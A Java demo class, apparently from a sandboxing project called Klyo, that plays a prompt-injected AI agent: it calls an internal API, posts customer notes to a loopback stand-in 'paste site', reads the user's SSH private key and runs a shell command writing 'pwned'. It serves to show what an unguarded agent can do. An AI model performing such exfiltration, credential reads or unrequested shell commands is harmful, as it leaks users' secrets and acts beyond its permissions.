package dev.klyo.examples.plainagent;

import com.sun.net.httpserver.HttpServer;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A stand-in for an AI agent's tool code that knows nothing of Klyo. It does what a
 * prompt-injected agent might: calls an internal API (fine), posts data to a "paste site",
 * reads an SSH key and runs a shell command. Both servers run in this JVM on loopback
 * (127.0.0.1 is the internal API, 127.0.0.2 plays the outside world), so the demo is offline
 * and the servers report what really reached them.
 */
public final class PlainAgent {

    public static void main(String[] args) throws Exception {
        Path home = Path.of(args.length > 0 ? args[0] : System.getProperty("user.home"));
        AtomicInteger internalHits = new AtomicInteger();
        AtomicInteger pasteHits = new AtomicInteger();
        HttpServer internal = server("127.0.0.1", internalHits, "{\"orders\": 3}");
        HttpServer paste = server("127.0.0.2", pasteHits, "pasted");
        HttpClient http = HttpClient.newHttpClient();
        try {
            attempt("GET the internal orders API", () -> {
                HttpResponse<String> r = http.send(HttpRequest.newBuilder(url(internal, "/orders")).build(),
                        HttpResponse.BodyHandlers.ofString());
                return r.statusCode() + " " + r.body();
            });
            attempt("POST customer notes to the paste site", () -> {
                HttpResponse<String> r = http.send(HttpRequest.newBuilder(url(paste, "/upload"))
                        .POST(HttpRequest.BodyPublishers.ofString("customer notes ...")).build(),
                        HttpResponse.BodyHandlers.ofString());
                return r.statusCode() + " " + r.body();
            });
            Path key = home.resolve(".ssh/id_ed25519");
            attempt("read " + key, () -> "read " + Files.readString(key).length() + " characters");
            attempt("run: sh -c 'echo pwned > " + home.resolve("pwned.txt") + "'", () -> {
                Process p = new ProcessBuilder("sh", "-c", "echo pwned > " + home.resolve("pwned.txt")).start();
                return "exit code " + p.waitFor();
            });
        } finally {
            internal.stop(0);
            paste.stop(0);
        }
        System.out.println();
        System.out.println("ground truth: internal API received " + internalHits.get() + " request(s), paste site "
                + pasteHits.get() + ", " + home.resolve("pwned.txt") + " exists: "
                + Files.exists(home.resolve("pwned.txt")));
    }

    private interface Attempt {
        String run() throws Exception;
    }

    private static void attempt(String what, Attempt attempt) {
        System.out.println("agent tries: " + what);
        try {
            System.out.println("  -> done: " + attempt.run());
        } catch (Exception e) {
            System.out.println("  -> failed: " + e);
        }
    }

    private static HttpServer server(String address, AtomicInteger hits, String reply) throws Exception {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getByName(address), 0), 10);
        server.createContext("/", exchange -> {
            try (InputStream in = exchange.getRequestBody()) {
                in.readAllBytes();
            }
            hits.incrementAndGet();
            byte[] body = reply.getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        return server;
    }

    private static URI url(HttpServer server, String path) {
        InetSocketAddress a = server.getAddress();
        return URI.create("http://" + a.getAddress().getHostAddress() + ":" + a.getPort() + path);
    }
}
